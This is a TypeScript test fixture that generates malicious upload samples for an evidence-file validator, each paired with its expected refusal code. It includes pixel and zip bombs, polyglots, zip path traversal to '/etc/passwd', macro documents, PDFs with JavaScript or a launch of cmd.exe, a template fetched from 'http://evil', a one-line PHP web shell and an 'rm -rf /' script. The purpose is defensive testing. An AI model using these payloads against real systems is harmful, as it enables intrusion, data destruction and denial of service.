import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { ZipFile } from 'yazl';

export interface HostileFile {
  readonly title: string;
  readonly name: string;
  readonly kind: 'photo' | 'document' | 'monitoring' | 'video';
  readonly bytes: Buffer;
  /** The one code with which it must be refused. */
  readonly code: string;
}

const text = (s: string) => Buffer.from(s, 'latin1');

/** A photo as a phone makes it, with the place and the device in it. */
export async function phonePhoto(width = 1200, height = 900, seed = 0): Promise<Buffer> {
  const gps = { GPSLatitudeRef: 'N', GPSLatitude: '36/1 15/1 3000/100', GPSLongitudeRef: 'E', GPSLongitude: '111/1 40/1 1234/100' };
  return sharp({ create: { width, height, channels: 3, background: { r: (seed * 37) % 255, g: 140, b: (seed * 91) % 255 } } })
    .composite([
      { input: Buffer.from(`<svg width="300" height="80"><text x="5" y="50" font-size="40">${seed} 排口</text></svg>`), left: 40, top: 40 },
    ])
    .withExif({
      IFD0: { Make: 'Phonemaker', Model: 'P-40', Software: 'cam 1.0', Artist: 'Li Si' },
      IFD2: { DateTimeOriginal: '2019:07:30 09:15:00', BodySerialNumber: 'SN-778899' },
      IFD3: gps,
    })
    .jpeg()
    .toBuffer();
}

async function zip(entries: readonly [string, Buffer][], options: Parameters<ZipFile['addBuffer']>[2] = {}): Promise<Buffer> {
  const file = new ZipFile();
  for (const [name, bytes] of entries) file.addBuffer(bytes, name, options);
  file.end();
  const parts: Buffer[] = [];
  for await (const part of file.outputStream) parts.push(part as Buffer);
  return Buffer.concat(parts);
}

const types = text('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>');
const skeleton: [string, Buffer][] = [
  ['[Content_Types].xml', types],
  ['word/document.xml', text('<w:document>整改报告</w:document>')],
];

export const docx = (more: readonly [string, Buffer][] = [], options?: Parameters<ZipFile['addBuffer']>[2]) =>
  zip([...skeleton, ...more], options);
export const xlsx = () =>
  zip([
    ['[Content_Types].xml', types],
    ['xl/workbook.xml', text('<workbook/>')],
  ]);

/** The same name in the same length, written over in the finished archive: writers refuse to make such names. */
function renamed(bytes: Buffer, from: string, to: string): Buffer {
  const out = Buffer.from(bytes);
  for (let at = out.indexOf(from); at >= 0; at = out.indexOf(from, at + 1)) out.write(to, at, 'latin1');
  return out;
}

export const pdf = (objects = '') =>
  text(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${objects}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );

function box(name: string, body: Buffer, length = body.length + 8): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(length);
  head.write(name, 4, 'latin1');
  return Buffer.concat([head, body]);
}
export const mp4 = (brand = 'isom', more = box('moov', Buffer.alloc(20))) =>
  Buffer.concat([box('ftyp', text(`${brand}\0\0\0\0isom`)), more, box('mdat', Buffer.alloc(500, 7))]);

/** A PNG of very many pixels in few bytes: its header and rows of nothing. */
function pixelBomb(side: number): Buffer {
  const chunk = (name: string, body: Buffer) => {
    const out = Buffer.alloc(body.length + 12);
    out.writeUInt32BE(body.length);
    out.write(name, 4, 'latin1');
    body.copy(out, 8);
    out.writeUInt32BE(crc(out.subarray(4, body.length + 8)), body.length + 8);
    return out;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side);
  head.writeUInt32BE(side, 4);
  head[8] = 1;
  const rows = deflateSync(Buffer.alloc(Math.min(side, 30_000) * (Math.ceil(side / 8) + 1)), { level: 9 });
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

function crc(bytes: Buffer): number {
  let c = ~0;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}

async function animated(frames: number): Promise<Buffer> {
  const raw = { width: 16, height: 16 * frames, channels: 3 as const, pageHeight: 16 };
  // Frames that are equal would be merged into one.
  const noise = Buffer.from(Array.from({ length: 16 * 16 * frames * 3 }, (_, i) => (i * 7919 + Math.floor(i / 768) * 31) % 251));
  return sharp(noise, { raw }).webp({ loop: 0, delay: 50 }).toBuffer();
}

/** Files that must not be taken in, each with the code of its refusal. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photo = await phonePhoto();
  const small = await phonePhoto(360, 160);
  const archive = await docx();
  const huge = Buffer.from(photo);
  const sof = huge.indexOf(Buffer.from([0xff, 0xc0]));
  huge.writeUInt16BE(65_000, sof + 5);
  huge.writeUInt16BE(65_000, sof + 7);
  const many = await docx(Array.from({ length: 2100 }, (_, i) => [`word/media/p${i}.xml`, text('x')]));
  const bomb = await docx([['word/media/a.xml', Buffer.alloc(60_000_000)]]);
  const noise = Buffer.from(Array.from({ length: 1_200_000 }, (_, i) => (i * 2654435761) >>> (i % 24)));
  // Packs to about a twentieth: below the ratio, above the size.
  const thin = Buffer.concat([randomBytes(3000), Buffer.alloc(60_000)]);
  const large = await docx([['word/media/n.bin', Buffer.concat(Array.from({ length: 1700 }, () => thin))]]);
  const objStm = deflateSync(text('5 0 <</S/JavaScript/JS(app.alert(1))>>'));
  const hidden = Buffer.concat([
    pdf().subarray(0, 60),
    text(`\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${objStm.length}>>stream\n`),
    objStm,
    text('\nendstream endobj\n%%EOF\n'),
  ]);
  const claims = Buffer.from(archive);
  const directory = claims.lastIndexOf('PK\x01\x02', undefined, 'latin1');
  claims.writeUInt32LE(0xfffffff0, directory + 24);
  const f = (title: string, name: string, kind: HostileFile['kind'], bytes: Buffer, code: string): HostileFile => ({
    title,
    name,
    kind,
    bytes,
    code,
  });
  return [
    f('a PNG of 20,000 by 20,000 pixels', 'a.png', 'photo', pixelBomb(20_000), 'evidence.pixels'),
    f('a PNG of 60,000 by 60,000 pixels', 'a.png', 'photo', pixelBomb(60_000), 'evidence.pixels'),
    f('a JPEG that claims 65,000 by 65,000', 'a.jpg', 'photo', huge, 'evidence.pixels'),
    f('an animation of 60 frames', 'a.webp', 'photo', await animated(60), 'evidence.frames'),
    f('a truncated JPEG', 'a.jpg', 'photo', photo.subarray(0, Math.floor(photo.length * 0.6)), 'evidence.damaged'),
    f('a JPEG of three bytes', 'a.jpg', 'photo', Buffer.from('ffd8ff', 'hex'), 'evidence.damaged'),
    f(
      'a TIFF whose directory points outside',
      'a.tif',
      'photo',
      Buffer.concat([Buffer.from('49492a00ffffff7f', 'hex'), Buffer.alloc(64)]),
      'evidence.damaged',
    ),
    f('a page named .jpg', 'a.jpg', 'photo', text('<!DOCTYPE html><script>alert(1)</script>'), 'evidence.type-refused'),
    f('a page with spaces before it', 'a.jpg', 'photo', text(`${' '.repeat(3000)}<html><body onload=x()>`), 'evidence.type-refused'),
    f(
      'a drawing with a script',
      'a.svg',
      'photo',
      text('<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
      'evidence.type-refused',
    ),
    f('a drawing named .png', 'a.png', 'photo', text('<?xml version="1.0"?><svg onload="x()"/>'), 'evidence.type-refused'),
    f('a page in a text', 'a.txt', 'document', text(`${'说明 '.repeat(20)}<iframe src=//x>`), 'evidence.type-refused'),
    f('PHP', 'a.txt', 'document', text('<?php system($_GET[0]);'), 'evidence.type-refused'),
    f('a shell script', 'a.txt', 'document', text('#!/bin/sh\nrm -rf /\n'), 'evidence.type-refused'),
    f('a Windows program named .pdf', 'a.pdf', 'document', Buffer.concat([text('MZ\x90\0'), Buffer.alloc(400)]), 'evidence.type-refused'),
    f('a Linux program named .jpg', 'a.jpg', 'photo', Buffer.concat([text('\x7fELF\x02\x01'), Buffer.alloc(400)]), 'evidence.type-refused'),
    f(
      'an old Word file',
      'a.doc',
      'document',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
      'evidence.type-refused',
    ),
    f('a RAR archive', 'a.docx', 'document', text('Rar!\x1a\x07\x01\0'), 'evidence.type-refused'),
    f('a gzip file', 'a.csv', 'document', Buffer.from('1f8b080000', 'hex'), 'evidence.type-refused'),
    f('a plain archive', 'a.docx', 'document', await zip([['a.txt', text('a')]]), 'evidence.type-refused'),
    f('an HEIC photo', 'a.heic', 'photo', mp4('heic'), 'evidence.type-refused'),
    f('a GIF', 'a.gif', 'photo', text('GIF89a\x01\0\x01\0'), 'evidence.type-refused'),
    f('binary noise', 'a.bin', 'document', Buffer.from(noise.subarray(0, 4000)), 'evidence.type-refused'),
    f('a text with zeros', 'a.txt', 'document', text('abc\0\0\0'), 'evidence.type-refused'),
    f('nothing', 'a.jpg', 'photo', Buffer.alloc(0), 'evidence.empty'),
    f('a document said to be a photo', 'a.jpg', 'photo', pdf(), 'evidence.kind-mismatch'),
    f('a photo said to be a video', 'a.mp4', 'video', small, 'evidence.kind-mismatch'),
    f('a JPEG with an archive behind it', 'a.jpg', 'photo', Buffer.concat([small, archive]), 'evidence.polyglot'),
    f('a PDF with an archive behind it', 'a.pdf', 'document', Buffer.concat([pdf(), archive]), 'evidence.polyglot'),
    f('a JPEG with a page in its comment', 'a.jpg', 'photo', withComment(small, '<html><script>x()</script>'), 'evidence.polyglot'),
    f('a JPEG with a PDF in its comment', 'a.jpg', 'photo', withComment(small, '%PDF-1.4'), 'evidence.polyglot'),
    f('a bomb by ratio', 'a.docx', 'document', bomb, 'evidence.archive-ratio'),
    f('a bomb by size', 'a.docx', 'document', large, 'evidence.archive-size'),
    f('an archive of 2,100 entries', 'a.docx', 'document', many, 'evidence.archive-entries'),
    f('an archive that claims 4 GiB', 'a.docx', 'document', claims, 'evidence.damaged'),
    f('an archive cut short', 'a.docx', 'document', archive.subarray(0, archive.length - 30), 'evidence.damaged'),
    f('a document in a document', 'a.docx', 'document', await docx([['word/embeddings/x.bin', archive]]), 'evidence.archive-nested'),
    f('a zip by name', 'a.docx', 'document', await docx([['word/x.zip', text('x')]]), 'evidence.archive-nested'),
    f(
      'a name that climbs',
      'a.docx',
      'document',
      renamed(await docx([['aa/evil/x.xml', text('x')]]), 'aa/evil/', '../evil/'),
      'evidence.archive-path',
    ),
    f(
      'an absolute name',
      'a.docx',
      'document',
      renamed(await docx([['aetc/passwd', text('x')]]), 'aetc/', '/etc/'),
      'evidence.archive-path',
    ),
    f(
      'a name with backslashes',
      'a.docx',
      'document',
      renamed(await docx([['aa/evil/x.xml', text('x')]]), 'aa/evil/', '..\\evil\\'),
      'evidence.archive-path',
    ),
    f(
      'a symbolic link',
      'a.docx',
      'document',
      await docx([['word/link', text('/etc/passwd')]], { mode: 0o120777 }),
      'evidence.archive-path',
    ),
    f('macros', 'a.docm', 'document', await docx([['word/vbaProject.bin', text('x')]]), 'evidence.macros'),
    f(
      'macros by content type',
      'a.docx',
      'document',
      await zip([
        ['[Content_Types].xml', text('<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')],
        ['word/document.xml', text('x')],
      ]),
      'evidence.macros',
    ),
    f(
      'a template from elsewhere',
      'a.docx',
      'document',
      await docx([
        [
          'word/_rels/settings.xml.rels',
          text('<Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'),
        ],
      ]),
      'evidence.active-content',
    ),
    f('a program inside', 'a.docx', 'document', await docx([['word/media/p.bin', text('MZ\x90\0')]]), 'evidence.active-content'),
    f(
      'an OLE object inside',
      'a.docx',
      'document',
      await docx([['word/embeddings/o.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')]]),
      'evidence.active-content',
    ),
    f('a PDF with JavaScript', 'a.pdf', 'document', pdf('3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'), 'evidence.active-content'),
    f('a PDF whose names are written with #', 'a.pdf', 'document', pdf('3 0 obj<</S/Java#53cript>>endobj'), 'evidence.active-content'),
    f('a PDF that starts a program', 'a.pdf', 'document', pdf('3 0 obj<</S/Launch/F(cmd.exe)>>endobj'), 'evidence.active-content'),
    f('a PDF that carries a file', 'a.pdf', 'document', pdf('3 0 obj<</Type/EmbeddedFile>>endobj'), 'evidence.active-content'),
    f('a PDF with JavaScript in a packed object', 'a.pdf', 'document', hidden, 'evidence.active-content'),
    f('a PDF cut short', 'a.pdf', 'document', pdf().subarray(0, 60), 'evidence.damaged'),
    f(
      'a video whose box claims more than the file',
      'a.mp4',
      'video',
      mp4('isom', box('moov', Buffer.alloc(20), 0x7fffffff)),
      'evidence.damaged',
    ),
    f('a video without an index', 'a.mp4', 'video', mp4('isom', box('free', Buffer.alloc(4))), 'evidence.damaged'),
    f('a video of endless empty boxes', 'a.mp4', 'video', mp4('isom', box('moov', Buffer.alloc(0), 0xffffffff)), 'evidence.damaged'),
  ];
}

function withComment(jpeg: Buffer, comment: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
  return Buffer.concat([jpeg.subarray(0, 2), head, text(comment), jpeg.subarray(2)]);
}
